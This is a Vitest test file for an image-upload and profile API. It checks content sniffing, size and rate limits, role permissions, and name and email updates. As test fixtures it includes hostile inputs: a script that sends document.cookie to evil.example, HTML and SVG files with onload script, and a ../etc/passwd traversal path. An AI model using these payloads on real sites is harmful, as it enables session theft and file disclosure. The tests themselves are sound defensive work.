import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { request } from "node:http";
import { MAX_UPLOAD_BYTES } from "@sunrise/db";
import { startTestGateway, type TestGateway } from "../../_test/gateway.js";
import { asAdmin, asGuest, asMember, asPlayer, asSupport, saveAccount, type Actor } from "../../_test/roles.js";
import { gif, jpeg, png } from "./_test/images.js";
import { uploadForm, uploadRaw } from "./_test/upload-client.js";
import { UPLOADS_PER_10_MINUTES } from "./uploads.routes.js";

let t: TestGateway;
let player: Actor;
let member: Actor;
let support: Actor;
beforeAll(async () => {
  t = await startTestGateway({ RATE_LIMIT_SIGN_IN_PER_MINUTE: "1000", RATE_LIMIT_ADDRESS_PER_MINUTE: "100000", RATE_LIMIT_IP_PER_MINUTE: "100000" });
  [player, member, support] = await Promise.all([asPlayer(t), asMember(t), asSupport(t)]);
});
afterAll(async () => t?.close());

/** Sends only the headers of an upload declaring `length` bytes and reports when the answer came, without sending a byte of the body. */
function declareOnly(length: number, headers: Record<string, string>): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request(`${t.url}/api/v1/uploads?purpose=avatar`, { method: "POST", headers: { ...headers, "content-type": "image/png", "content-length": String(length) } }, (res) => {
      let body = "";
      res.on("data", (c) => (body += c));
      res.on("end", () => resolve({ status: res.statusCode!, body }));
    });
    req.on("error", reject);
    req.flushHeaders();
  });
}

/** Streams `total` bytes chunked (no declared length): the server must stop it once past the limit. */
function streamChunked(total: number, headers: Record<string, string>): Promise<{ status: number; body: string; sent: number }> {
  return new Promise((resolve) => {
    let sent = 0;
    const req = request(`${t.url}/api/v1/uploads?purpose=avatar`, { method: "POST", headers: { ...headers, "content-type": "image/png", "transfer-encoding": "chunked" } }, (res) => {
      let body = "";
      res.on("data", (c) => (body += c));
      res.on("end", () => resolve({ status: res.statusCode!, body, sent }));
    });
    req.on("error", () => undefined);
    const chunk = Buffer.alloc(64 * 1024, 1);
    const pump = () => {
      while (sent < total) {
        sent += chunk.length;
        if (!req.write(chunk)) return void req.once("drain", pump);
      }
      req.end();
    };
    pump();
  });
}

describe("uploads", () => {
  it("stores a player's photo from a multipart my_image.png, makes it theirs and serves it with long immutable caching", async () => {
    const bytes = png(256, 256);
    const res = await uploadForm(t.url, player, bytes, "my_image.png", "avatar");
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ contentType: "image/png", width: 256, height: 256, byteSize: bytes.length, url: `/uploads/${res.body.id}` });
    const me = await player.gql(`{ me { imageUrl } }`);
    expect(me.data!.me.imageUrl).toBe(res.body.url);

    const served = await fetch(`${t.url}${res.body.url}`);
    expect(served.status).toBe(200);
    expect(served.headers.get("content-type")).toBe("image/png");
    expect(served.headers.get("cache-control")).toBe("public, max-age=31536000, immutable");
    expect(served.headers.get("x-content-type-options")).toBe("nosniff");
    expect(served.headers.get("etag")).toBe(`"${res.body.sha256}"`);
    expect(Buffer.from(await served.arrayBuffer()).equals(bytes)).toBe(true);
    const again = await fetch(`${t.url}${res.body.url}`, { headers: { "if-none-match": served.headers.get("etag")! } });
    expect(again.status).toBe(304);
  });

  it("takes a raw body, sniffs JPEG, GIF and a JPEG's EXIF rotation from the bytes whatever the request claims, and stores the same bytes once", async () => {
    const j = await uploadRaw(t.url, member, jpeg(1520, 624), "content", "image/png");
    expect(j).toMatchObject({ status: 201, body: { contentType: "image/jpeg", width: 1520, height: 624 } });
    const turned = await uploadRaw(t.url, member, jpeg(1046, 768, 6));
    expect(turned.body).toMatchObject({ contentType: "image/jpeg", width: 768, height: 1046 });
    const g = await uploadRaw(t.url, member, gif(40, 30));
    expect(g.body).toMatchObject({ contentType: "image/gif", width: 40, height: 30 });
    const twice = await uploadRaw(t.url, member, jpeg(1520, 624));
    expect(twice.body.id).toBe(j.body.id);
  });

  it("refuses what is not an image with 415 and a clear message, whatever its name or declared type", async () => {
    const hostile: [string, Buffer, string][] = [
      ["a script named .png", Buffer.from("<script>fetch('//evil.example?c='+document.cookie)</script>"), "evil.png"],
      ["an HTML page named .jpg", Buffer.from("<!doctype html><html><body onload=alert(1)>hi</body></html>"), "photo.jpg"],
      ["an SVG with a script", Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`), "logo.png"],
      ["random bytes", Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 251)), "noise.png"],
      ["a PDF", Buffer.from("%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF"), "doc.png"],
      ["a ZIP", Buffer.from([0x50, 0x4b, 0x03, 0x04, ...Buffer.alloc(60)]), "archive.gif"],
    ];
    for (const [what, bytes, name] of hostile) {
      const res = await uploadForm(t.url, player, bytes, name, "avatar");
      expect({ what, status: res.status, code: res.body.error?.code }).toEqual({ what, status: 415, code: "UNSUPPORTED_MEDIA_TYPE" });
      expect(res.body.error!.message).toMatch(/not an image.*PNG, JPEG, WebP or GIF/);
    }
    const cut = await uploadRaw(t.url, player, png(64, 64).subarray(0, 12), "avatar", "image/png");
    expect(cut.status).toBe(415);
    const sizeless = await uploadRaw(t.url, player, png(0, 0), "avatar", "image/png");
    expect(sizeless).toMatchObject({ status: 415, body: { error: { message: expect.stringMatching(/damaged or incomplete/) } } });
    const me = await player.gql(`{ me { imageUrl } }`);
    expect(me.data!.me.imageUrl).not.toBeNull(); // the earlier photo stays
  });

  it("refuses a body declared over 1 MB with 413 before reading any of it, and stops a chunked one as it passes the limit", async () => {
    const early = await declareOnly(MAX_UPLOAD_BYTES + 1, player.headers);
    expect(early.status).toBe(413);
    expect(JSON.parse(early.body).error).toEqual({ code: "PAYLOAD_TOO_LARGE", message: "The image is too large: the limit is 1 MB" });
    const chunked = await streamChunked(8 * 1024 * 1024, player.headers);
    expect(chunked.status).toBe(413);
    const justOver = await uploadForm(t.url, player, png(16, 16, MAX_UPLOAD_BYTES), "my_image.png", "avatar");
    expect(justOver.status).toBe(413);
    const justUnder = await uploadRaw(t.url, player, png(16, 16, MAX_UPLOAD_BYTES - 200), "avatar");
    expect(justUnder.status).toBe(201);
  });

  it("lets only signed-in players upload a photo, and only content staff upload pictures for popups and banners", async () => {
    const bytes = png(32, 32);
    expect((await uploadRaw(t.url, asGuest(t), bytes, "avatar")).status).toBe(401);
    expect((await uploadRaw(t.url, player, bytes, "content")).body.error).toMatchObject({ code: "FORBIDDEN" });
    expect((await uploadRaw(t.url, support, bytes, "content")).body.error).toMatchObject({ code: "FORBIDDEN" });
    expect((await uploadRaw(t.url, await asAdmin(t), bytes, "content")).status).toBe(201);
    expect((await uploadRaw(t.url, player, bytes, "banner")).body.error).toMatchObject({ code: "BAD_USER_INPUT" });
    const banned = await asPlayer(t);
    await saveAccount(t, banned.address, { imageBanned: true } as never);
    expect((await uploadRaw(t.url, banned, bytes, "avatar")).body.error).toMatchObject({ code: "FORBIDDEN", message: "This account may not upload images" });
  });

  it("stops an account after 30 uploads in ten minutes with 429 and Retry-After, before reading the body", async () => {
    const flood = await asPlayer(t);
    const bytes = png(8, 8);
    for (let i = 0; i < UPLOADS_PER_10_MINUTES; i++) expect((await uploadRaw(t.url, flood, bytes, "avatar")).status).toBe(201);
    const res = await fetch(`${t.url}/api/v1/uploads?purpose=avatar`, { method: "POST", headers: { ...flood.headers, "content-type": "image/png" }, body: bytes });
    expect(res.status).toBe(429);
    expect(Number(res.headers.get("retry-after"))).toBeGreaterThan(0);
    expect((await uploadRaw(t.url, player, bytes, "avatar")).status).toBe(201);
  });

  it("answers 404 for an unknown or malformed image id", async () => {
    expect((await fetch(`${t.url}/uploads/00000000-0000-4000-8000-000000000000`)).status).toBe(404);
    expect((await fetch(`${t.url}/uploads/..%2f..%2fetc%2fpasswd`)).status).toBe(404);
  });
});

describe("profile", () => {
  it("changes the player's name (trimmed, 1 to 32 characters) and sets or removes the photo by upload id", async () => {
    const p = await asPlayer(t);
    const named = await p.gql(`mutation { updateMyName(name: "  Lucky   Star ") { name } }`);
    expect(named.data!.updateMyName.name).toBe("Lucky Star");
    const long = await p.gql(`mutation { updateMyName(name: "${"x".repeat(33)}") { name } }`);
    expect(long.errors![0]!.extensions).toMatchObject({ code: "BAD_USER_INPUT", field: "name" });
    const up = await uploadRaw(t.url, member, png(10, 10));
    const set = await p.gql(`mutation($id: ID) { setMyImage(uploadId: $id) { imageUrl } }`, { id: up.body.id });
    expect(set.data!.setMyImage.imageUrl).toBe(up.body.url);
    const missing = await p.gql(`mutation($id: ID) { setMyImage(uploadId: $id) { imageUrl } }`, { id: "00000000-0000-4000-8000-000000000000" });
    expect(missing.errors![0]!.extensions).toMatchObject({ code: "NOT_FOUND", field: "uploadId" });
    const removed = await p.gql(`mutation { setMyImage(uploadId: null) { imageUrl } }`);
    expect(removed.data!.setMyImage.imageUrl).toBeNull();
    expect((await asGuest(t).gql(`mutation { updateMyName(name: "x") { name } }`)).errors![0]!.extensions!.code).toBe("UNAUTHENTICATED");
  });

  it("sets the player's own email (trimmed, lower case, null removes it), refusing a malformed one and one another player has in any letter case", async () => {
    const first = await asPlayer(t);
    const second = await asPlayer(t);
    const set = await first.gql(`mutation { updateMyEmail(email: "  Lucky@Example.COM ") { email } }`);
    expect(set.data!.updateMyEmail.email).toBe("lucky@example.com");
    expect((await first.gql(`{ me { email } }`)).data!.me.email).toBe("lucky@example.com");
    const taken = await second.gql(`mutation { updateMyEmail(email: "LUCKY@example.com") { email } }`);
    expect(taken.errors![0]).toMatchObject({ message: "This email is already exist", extensions: { code: "CONFLICT" } });
    expect((await second.gql(`{ me { email } }`)).data!.me.email).toBeNull();
    const malformed = await second.gql(`mutation { updateMyEmail(email: "lucky@") { email } }`);
    expect(malformed.errors![0]!.extensions).toMatchObject({ code: "BAD_USER_INPUT", field: "email" });
    // Setting it again to one's own address is no conflict; removing it frees it for others.
    expect((await first.gql(`mutation { updateMyEmail(email: "lucky@example.com") { email } }`)).data!.updateMyEmail.email).toBe("lucky@example.com");
    expect((await first.gql(`mutation { updateMyEmail(email: null) { email } }`)).data!.updateMyEmail.email).toBeNull();
    expect((await second.gql(`mutation { updateMyEmail(email: "lucky@example.com") { email } }`)).data!.updateMyEmail.email).toBe("lucky@example.com");
    expect((await asGuest(t).gql(`mutation { updateMyEmail(email: "x@example.com") { email } }`)).errors![0]!.extensions!.code).toBe("UNAUTHENTICATED");
  });
});
